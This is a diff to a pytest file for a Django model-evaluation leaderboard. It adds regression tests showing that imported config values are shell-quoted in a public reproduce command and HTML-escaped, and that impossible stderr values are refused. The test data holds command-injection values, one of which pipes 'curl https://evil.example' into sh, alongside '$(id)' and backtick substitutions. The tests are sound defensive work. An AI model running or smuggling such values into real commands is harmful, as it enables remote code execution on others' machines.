@@ -2,6 +2,7 @@
 
 import io
 import json
+import shlex
 import shutil
 import subprocess
 import sys
@@ -12,6 +13,7 @@ import pytest
 import yaml
 from django.conf import settings
 from django.core.management import CommandError, call_command
+from django.utils.html import escape
 
 from evaluation.models import RunStatus, SampleLog, TaskResult
 from leaderboard.models import LeaderboardEntry
@@ -122,3 +124,46 @@ def test_import_finds_the_samples_beside_the_results_and_refuses_bad_input_whole
     assert SampleLog.objects.filter(run=run).count() == sum(
         n["effective"] for n in json.loads(results_path.read_text())["n-samples"].values()
     )
+
+
+def _hostile_copy(cli_output: Path, tmp_path: Path, change) -> Path:
+    """The CLI's folder, its results file changed by ``change(results)``."""
+    folder = tmp_path / "hostile"
+    shutil.copytree(cli_output, folder)
+    [results_path] = folder.glob("results_*.json")
+    results = json.loads(results_path.read_text())
+    change(results)
+    results_path.write_text(json.dumps(results))
+    return results_path
+
+
+def test_values_of_an_imported_file_reach_the_reproduce_command_quoted(cli_output, suites, tmp_path, client):
+    """Issue 22, finding 5: config.model, device and batch_size went unquoted into the public command."""
+    hostile = {
+        "model": "hf --tasks x; curl https://evil.example | sh; #",
+        "device": "cpu$(id)",
+        "batch_sizes": ["1 `id`"],
+    }
+    results_path = _hostile_copy(cli_output, tmp_path, lambda results: results["config"].update(hostile))
+    call_command("import_results", str(results_path), stdout=io.StringIO())
+    run = ModelSubmission.objects.get().runs.get()
+    [command] = run.record["commands"]
+    words = shlex.split(command.split(" && ", 1)[1])  # what the shell would run after the cd
+    for option, value in (("--model", hostile["model"]), ("--device", "cpu$(id)"), ("--batch_size", "1 `id`")):
+        assert words[words.index(option) + 1] == value  # one word each, as written: nothing runs
+    assert words.count("--tasks") == 1
+    page = client.get(f"/models/{run.submission.model_id}/").content.decode()
+    assert escape(command) in page
+
+
+@pytest.mark.parametrize("stderr", [-0.01, float("nan"), 1e200])
+def test_import_results_refuses_a_stderr_no_score_can_have(cli_output, suites, tmp_path, stderr):
+    """Issue 22, finding 7: a negative, NaN or huge stderr is refused, naming it; nothing is stored."""
+
+    def change(results):
+        task = next(iter(results["results"]))
+        results["results"][task]["acc_stderr,none"] = stderr
+
+    with pytest.raises(CommandError, match="stderr of .* a standard error is a number from 0 to 1"):
+        call_command("import_results", str(_hostile_copy(cli_output, tmp_path, change)))
+    assert not ModelSubmission.objects.exists()
